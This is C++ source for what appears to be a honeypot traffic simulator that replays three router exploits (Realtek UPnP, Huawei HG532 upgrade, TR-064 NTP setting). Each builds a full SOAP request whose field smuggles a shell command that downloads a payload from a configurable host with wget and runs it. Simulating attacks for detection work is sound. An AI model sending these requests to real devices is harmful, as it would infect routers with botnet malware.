// Commands hidden in SOAP requests. The bodies of the two of 2017 are those of the report, misspellings included.
#include <string>

#include "net/address.hpp"
#include "simulate/conversation_plan.hpp"

namespace nightjar::simulate {
namespace {

std::string host_of(const VisitPlace& place) { return format(Address{4, place.pot, 0}) + ":" + std::to_string(place.port); }

/// One request, the device's answer, and an end of one kind or another.
void ask(VisitPlan& plan, Random& random, std::string request, std::string answer) {
  plan.dialogues.emplace_back();
  Dialogue& talk = plan.dialogues.back();
  talk.pause_s = 1;
  talk.visitor(std::move(request));
  talk.pot(std::move(answer), 0.01);
  constexpr Ending kEndings[] = {Ending::pot_closes, Ending::pot_closes, Ending::visitor_closes, Ending::visitor_resets, Ending::silence};
  talk.ending = kEndings[random.below(5)];
}

std::string answer(std::string_view status, std::string_view server, const std::string& body) {
  return "HTTP/1.1 " + std::string(status) + "\r\nServer: " + std::string(server) +
         "\r\nConnection: close\r\nContent-Type: text/xml; charset=\"utf-8\"\r\nContent-Length: " + std::to_string(body.size()) +
         "\r\n\r\n" + body;
}

std::string soap(const std::string& body) {
  return "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
         "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body>" +
         body + "</s:Body></s:Envelope>";
}

}  // namespace

void plan_realtek(const VisitPlace& place, Random& random, VisitPlan& plan) {
  const std::string url = "http://" + std::string(place.malware_host) + "/okiru.sh";
  const std::string command = "cd /tmp/;/bin/busybox wget " + url;
  // Figure 7 breaks lines where its column ends. On one line, and with a host of 14 characters, the body has the 637 bytes it says.
  const std::string body =
      "<?xml version=\"1.0\" ?>"
      "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">"
      "<s:Body>"
      "<u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">"
      "<NewRemoteHost></NewRemoteHost>"
      "<NewExternalPort>47450</NewExternalPort>"
      "<NewProtocol>TCP</NewProtocol>"
      "<NewInternalPort>44382</NewInternalPort>"
      "<NewInternalClient>`" +
      command +
      "`</NewInternalClient>"
      "<NewEnabled>1</NewEnabled>"
      "<NewPortMappingDescription>syncthing</NewPortMappingDescription>"
      "<NewLeaseDuration>0</NewLeaseDuration>"
      "</u:AddPortMapping>"
      "</s:Body>"
      "</s:Envelope>";
  ask(plan, random,
      "POST /picsdesc.xml HTTP/1.1\r\nHost: " + host_of(place) +
          "\r\nConnection: keep-alive\r\nAccept-Encoding: gzip, deflate\r\nAccept: */*\r\nUser-Agent: python-requests/2.18.4\r\n"
          "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\nContent-Length: 637\r\n\r\n" +
          body,
      answer("200 OK", "miniupnpd/1.0 UPnP/1.0",
             soap("<u:AddPortMappingResponse xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"/>")));
  plan.commands.push_back(command);
  plan.urls.push_back(url);
}

void plan_huawei(const VisitPlace& place, Random& random, VisitPlan& plan) {
  const std::string host(place.malware_host);
  const std::string command = "busybox wget -g " + host + " -l /tmp/rsh -r /okiru.mips; chmod +x /tmp/rsh; /tmp/rsh";
  // With the lines of figure 9 and a host of 11 characters these are the 430 bytes that every copy of the program announces.
  const std::string body =
      "<?xml.version=\"1.0\" ?>\n"
      "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n"
      "<s:Body>\n"
      "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">\n"
      "<NewStatusURL>$(" +
      command +
      ")</NewStatusURL>\n"
      "<NewDownoadURL>$(echo HUAWEIUPNP)</NewDownloadURL>\n"
      "</u:Upgrade>\n"
      "</s:Body>\n"
      "</s:Envelope>";
  ask(plan, random,
      "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: " + host_of(place) +
          "\r\nContent-Length: 430\r\nConnection: keep-alive\r\nAccept: */*\r\n"
          "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", "
          "uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, "
          "cnonce=\"248d1a2560100669\"\r\n\r\n" +
          body,
      answer("200 OK", "Linux UPnP/1.0 Huawei-ATP-IGD",
             soap("<u:UpgradeResponse xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"/>")));
  plan.commands.insert(plan.commands.end(), {command, "echo HUAWEIUPNP"});
  plan.urls.push_back("http://" + host + "/okiru.mips");  // what `wget -g HOST -r FILE` loads
}

void plan_tr064(const VisitPlace& place, Random& random, VisitPlan& plan) {
  constexpr std::string_view kServer = "RomPager/4.07 UPnP/1.0";
  if (random.below(3) == 0) {
    ask(plan, random, "GET /globe HTTP/1.1\r\nHost: " + host_of(place) + "\r\n\r\n",
        answer("404 Not Found", kServer, "<html><body>Object Not Found</body></html>"));
  }
  const std::string url = "http://" + std::string(place.malware_host) + "/1";
  const std::string command = "cd /tmp;wget " + url + ";chmod 777 1;./1";
  const std::string body =
      "<?xml version=\"1.0\"?><SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\" "
      "SOAP-ENV:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><SOAP-ENV:Body>"
      "<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`" +
      command +
      "`</NewNTPServer1><NewNTPServer2></NewNTPServer2><NewNTPServer3></NewNTPServer3><NewNTPServer4></NewNTPServer4>"
      "<NewNTPServer5></NewNTPServer5></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>";
  // The host is always this one: the program was made for the device's own address.
  ask(plan, random,
      "POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"
      "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Type: text/xml\r\nContent-Length: " +
          std::to_string(body.size()) + "\r\n\r\n" + body,
      answer("200 OK", kServer, soap("<u:SetNTPServersResponse xmlns:u=\"urn:dslforum-org:service:Time:1\"/>")));
  plan.commands.push_back(command);
  plan.urls.push_back(url);
}

}  // namespace nightjar::simulate
